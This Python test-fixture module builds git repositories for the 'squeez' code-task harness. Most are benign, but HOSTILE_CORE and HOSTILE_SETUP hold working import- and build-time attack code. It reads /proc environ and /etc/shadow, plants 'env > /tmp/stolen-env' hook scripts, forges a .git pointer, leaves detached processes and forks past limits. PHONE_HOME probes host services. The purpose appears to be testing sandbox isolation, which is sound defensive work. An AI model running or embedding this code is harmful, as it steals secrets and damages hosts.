"""Real git repositories for the squeez and code tests, built with GitPython."""

from __future__ import annotations

import json
from pathlib import Path

import git

CORE_BASE = '''"""Core widgets."""

import math

DEFAULT_FACTOR = 2


def scale(value, factor=DEFAULT_FACTOR):
    """Scale a value by a factor."""
    if value < 0:
        return value
    return value * factor


class Meter:
    """Accumulates readings."""

    def __init__(self):
        self.readings = []

    def add(self, value):
        self.readings.append(value)

    def mean(self):
        return sum(self.readings) / len(self.readings)

    def spread(self):
        return max(self.readings) - min(self.readings)


def norm(values):
    return math.sqrt(sum(v * v for v in values))
''' + "".join(
    f"""

def clamp_{i}(value, low=0, high={i + 10}):
    \"\"\"Clamp a value to [low, {i + 10}].\"\"\"
    if value < low:
        return low
    return min(value, high)
"""
    for i in range(8)
)

CORE_FIXED = CORE_BASE.replace(
    """    if value < 0:
        return value
    return value * factor""",
    """    return value * factor""",
).replace(
    """    def mean(self):
        return sum(self.readings) / len(self.readings)""",
    """    def mean(self):
        if not self.readings:
            return 0.0
        return sum(self.readings) / len(self.readings)""",
)

UTIL = "\n".join([f"def helper_{i}(x):\n    return x + {i}\n" for i in range(14)])

TESTS = """from widgets.core import Meter, scale


def test_scale_positive():
    assert scale(3) == 6


def test_scale_negative():
    # negative values scale like positive ones: the readings of a meter below zero
    # are as real as those above it, and a factor applies to both
    value = -3
    expected = -6
    result = scale(value)
    assert result == expected


def test_meter_mean_empty():
    assert Meter().mean() == 0.0
"""


def _commit(repo: git.Repo, files: dict[str, str], message: str) -> str:
    root = Path(repo.working_tree_dir)
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    repo.index.add(list(files))
    author = git.Actor("Test Author", "author@example.org")
    return repo.index.commit(message, author=author, committer=author).hexsha


def make_widgets_repo(path: Path) -> dict[str, str]:
    """A package with four commits; returns base_commit, patch (the gold fix) and test names."""
    repo = git.Repo.init(path, initial_branch="main")
    _commit(repo, {"README.md": "# widgets\n", "widgets/__init__.py": ""}, "Start the widgets package")
    _commit(repo, {"widgets/util.py": UTIL}, "Add helpers")
    _commit(repo, {"widgets/core.py": CORE_BASE.replace("    def spread", "    def spread_")}, "Add core")
    base = _commit(
        repo,
        {
            "widgets/core.py": CORE_BASE,
            "tests/test_core.py": TESTS,
            "assets/logo.bin": "\x00\x01\x02binary\x00" * 20,
        },
        "Add spread and tests",
    )
    (path / "widgets/core.py").write_text(CORE_FIXED)
    patch = repo.git.diff() + "\n"
    repo.git.checkout("--", ".")
    return {"base_commit": base, "patch": patch}


def make_flask_like_repo(path: Path) -> dict[str, str]:
    """A second repository, named like one of squeez's test-split repositories."""
    repo = git.Repo.init(path, initial_branch="main")
    lines = "\n".join(f"ROUTE_{i} = '/r{i}'" for i in range(30))
    _commit(repo, {"app/routes.py": lines + "\n\ndef register(app):\n    return app\n"}, "Routes")
    _commit(repo, {"app/views.py": "def index():\n    return 'ok'\n"}, "Views")
    base = _commit(repo, {"app/extra.py": "VALUE = 1\n"}, "Extra")
    (path / "app/routes.py").write_text(
        lines.replace("ROUTE_12 = '/r12'", "ROUTE_12 = '/twelve'")
        + "\n\ndef register(app):\n    app.routes = True\n    return app\n"
    )
    patch = repo.git.diff() + "\n"
    repo.git.checkout("--", ".")
    return {"base_commit": base, "patch": patch}


def write_instances(root: Path) -> tuple[Path, str]:
    """Repositories under root/src/<owner>/<name>, an instances file, and the URL template."""
    widgets = make_widgets_repo(root / "src" / "acme" / "widgets")
    flask = make_flask_like_repo(root / "src" / "pallets" / "flask")
    instances = [
        {
            "instance_id": "acme__widgets-1",
            "repo": "acme/widgets",
            **widgets,
            "problem_statement": "`scale` returns negative values unscaled, and `Meter.mean` crashes on an "
            "empty MeterReading list. See https://example.org/issues/1 for details.",
            "FAIL_TO_PASS": json.dumps(
                ["tests/test_core.py::test_scale_negative", "tests/test_core.py::test_meter_mean_empty"]
            ),
            "PASS_TO_PASS": json.dumps(["tests/test_core.py::test_scale_positive"]),
            "version": "1.0",
        },
        {
            "instance_id": "pallets__flask-1",
            "repo": "pallets/flask",
            **flask,
            "problem_statement": "ROUTE_12 should be `/twelve`, and `register` must mark the app as routed.",
            # swebench pins Flask 2.0's dependencies, which an offline build cannot install
            "version": "2.0",
        },
        {
            "instance_id": "ghost__missing-1",
            "repo": "ghost/missing",
            "base_commit": "0" * 40,
            "patch": "",
            "problem_statement": "This repository does not exist anywhere.",
        },
    ]
    path = root / "instances.jsonl"
    path.write_text("".join(json.dumps(i) + "\n" for i in instances))
    return path, f"file://{root}/src/{{repo}}"


HOSTILE_CORE = '''"""A module whose import attacks whatever runs it."""

import glob
import os
import subprocess

TARGETS = {targets!r}


def _attack():
    for path in glob.glob("/proc/*/environ") + ["/proc/1/environ"]:
        try:
            print("ENVIRON", path, open(path, "rb").read().replace(b"\\0", b" ").decode())
        except OSError as err:
            print("ENVIRON DENIED", path, err)
    for path in ("/etc/shadow", "/etc/gshadow"):
        try:
            print("SHADOW", open(path).read())
        except OSError as err:
            print("SHADOW DENIED", err)
    for target in TARGETS:
        try:
            os.makedirs(os.path.dirname(target), exist_ok=True)
            with open(target, "w") as handle:
                handle.write("#!/bin/sh\\nenv > /tmp/stolen-env\\n")
            os.chmod(target, 0o755)
            print("WROTE", target)
        except OSError as err:
            print("WRITE DENIED", target, err)
    os.makedirs("evilgit/hooks", exist_ok=True)
    with open("evilgit/hooks/post-checkout", "w") as handle:
        handle.write("#!/bin/sh\\nenv > /tmp/stolen-env\\n")
    os.chmod("evilgit/hooks/post-checkout", 0o755)
    with open(".git", "w") as handle:
        handle.write("gitdir: " + os.path.abspath("evilgit") + "\\n")
    for _ in range(3):
        subprocess.Popen(["setsid", "sleep", "917"], start_new_session=True)
    started = 0
    try:
        for _ in range(300):
            subprocess.Popen(["sleep", "918"])
            started += 1
    except OSError as err:
        print("FORKS REFUSED after", started, err)


_attack()


def compute(value):
    return value + 1
'''

#: attacks while its environment is built (setup.py is repository code too): the host's
#: environment through /proc, writes outside the tree, a detached daemon; then it fails, so the
#: build log shows what it printed
HOSTILE_SETUP = """import glob
import os
import subprocess

for path in glob.glob("/proc/*/environ"):
    try:
        print("ENVIRON", path, open(path, "rb").read().replace(b"\\0", b" ").decode())
    except OSError as err:
        print("ENVIRON DENIED", path, err)
for target in {targets!r}:
    try:
        with open(target, "w") as handle:
            handle.write("#!/bin/sh\\nenv > /tmp/stolen-env\\n")
        print("WROTE", target)
    except OSError as err:
        print("WRITE DENIED", target, err)
quiet = subprocess.DEVNULL
subprocess.Popen(["setsid", "sleep", "919"], stdin=quiet, stdout=quiet, stderr=quiet, start_new_session=True)
raise SystemExit("setup.py: attacks done")
"""

HOSTILE_TESTS = """from evil.core import compute


def test_compute():
    assert compute(1) == 3
"""


def make_hostile_repo(path: Path, targets: list[str]) -> dict[str, str]:
    """A repository whose code (on import, so in python, test and build calls) tries every attack
    of the security review: read the host environment through /proc, read /etc/shadow, write
    outside its tree (``targets``: host files and git hooks), forge a ``.git`` pointing at its own
    hooks, leave detached processes behind, and fork past the process limit. Its setup.py runs
    them all again while its environment is built."""
    repo = git.Repo.init(path, initial_branch="main")
    core = HOSTILE_CORE.format(targets=targets)
    setup = HOSTILE_SETUP.format(targets=targets)
    _commit(repo, {"README.md": "# evil\n", "evil/__init__.py": "", "setup.py": setup}, "Start")
    base = _commit(repo, {"evil/core.py": core, "tests/test_core.py": HOSTILE_TESTS}, "Add core")
    (path / "evil/core.py").write_text(core.replace("return value + 1", "return value + 2"))
    patch = repo.git.diff() + "\n"
    repo.git.checkout("--", ".")
    return {"base_commit": base, "patch": patch}


GAUGES_PYPROJECT = """[build-system]
requires = ["setuptools>=61"]
build-backend = "setuptools.build_meta"

[project]
name = "gauges"
version = "0.3.0"
dependencies = ["tinyunits"]

[tool.setuptools.packages.find]
where = ["src"]
"""

#: writes a module into the tree while the package is built, as setuptools_scm does
GAUGES_SETUP = """from pathlib import Path

from setuptools import setup

Path("src/gauges/_version.py").write_text('version = "0.3.0"\\n')
setup()
"""

GAUGES_DIAL = '''"""Dials that read in display units."""

from gauges._version import version
from tinyunits import to_display


def reading(raw):
    """The reading of a raw value, in display units."""
    return to_display(raw)


def needle(raw, full_scale=100):
    """Where the needle points, as a share of the full scale."""
    return min(reading(raw) / full_scale, 0.0)
'''

GAUGES_TESTS = """from gauges.dial import needle, reading


def test_reading_uses_display_units():
    assert reading(2) == 20


def test_needle_is_a_share_of_full_scale():
    assert needle(5) == 0.5
"""


def make_src_layout_repo(path: Path) -> dict[str, str]:
    """A src-layout package (``src/gauges``) that imports a dependency, ``tinyunits``, from its
    pyproject, and a module its build writes (``_version.py``); one of its two tests fails at
    the base commit, and the patch fixes it."""
    repo = git.Repo.init(path, initial_branch="main")
    _commit(
        repo,
        {"pyproject.toml": GAUGES_PYPROJECT, "setup.py": GAUGES_SETUP, "src/gauges/__init__.py": ""},
        "Start",
    )
    base = _commit(repo, {"src/gauges/dial.py": GAUGES_DIAL, "tests/test_dial.py": GAUGES_TESTS}, "Add dials")
    (path / "src/gauges/dial.py").write_text(
        GAUGES_DIAL.replace("min(reading(raw) / full_scale, 0.0)", "min(reading(raw) / full_scale, 1.0)")
    )
    patch = repo.git.diff() + "\n"
    repo.git.checkout("--", ".")
    return {"base_commit": base, "patch": patch}


#: what ``tinyunits`` holds: the dependency a wheel built by the test provides
TINYUNITS = {"tinyunits/__init__.py": "def to_display(raw):\n    return raw * 10\n"}


#: tries to reach every target, as (host, port); what it reached is printed, not sent anywhere
PHONE_HOME = """import socket

_said = []
for _host, _port in {targets!r}:
    try:
        socket.create_connection((_host, _port), timeout=3).close()
        _said.append(f"REACHED {{_host}} {{_port}}")
    except OSError as _err:
        _said.append(f"UNREACHABLE {{_host}} {{_port}} {{type(_err).__name__}}")
print("\\n".join(_said))
"""


def make_phone_home_repo(path: Path, targets: list[tuple[str, int]]) -> dict[str, str]:
    """A package whose setup.py, import and pytest conftest each try to connect to ``targets``
    (services on the host running squeez); the patch fixes an off-by-one."""
    phone = PHONE_HOME.format(targets=targets)
    repo = git.Repo.init(path, initial_branch="main")
    # it fails once it has tried, so that the installer shows what it printed in the build log
    setup = phone + 'raise SystemExit("setup.py: tried")\n'
    _commit(repo, {"README.md": "# phonehome\n", "setup.py": setup, "phonehome/__init__.py": phone}, "Start")
    core = "def compute(value):\n    return value + 1\n"
    # pytest hides what a conftest prints; an error in it is shown with its message
    conftest = phone + 'raise RuntimeError("\\n".join(_said))\n'
    tests = {"tests/conftest.py": conftest, "tests/test_core.py": HOSTILE_TESTS.replace("evil", "phonehome")}
    base = _commit(repo, {"phonehome/core.py": core, **tests}, "Add core")
    (path / "phonehome/core.py").write_text(core.replace("value + 1", "value + 2"))
    patch = repo.git.diff() + "\n"
    repo.git.checkout("--", ".")
    return {"base_commit": base, "patch": patch}


def make_fix_repo(path: Path, files: dict[str, str], fixed: dict[str, str]) -> dict[str, str]:
    """A repository of ``files`` in one commit (the base) and the patch that changes them to
    ``fixed``: an instance's base_commit and gold patch."""
    repo = git.Repo.init(path, initial_branch="main")
    base = _commit(repo, files, "Base")
    for name, text in fixed.items():
        (path / name).write_text(text)
    patch = repo.git.diff() + "\n"
    repo.git.checkout("--", ".")
    return {"base_commit": base, "patch": patch}
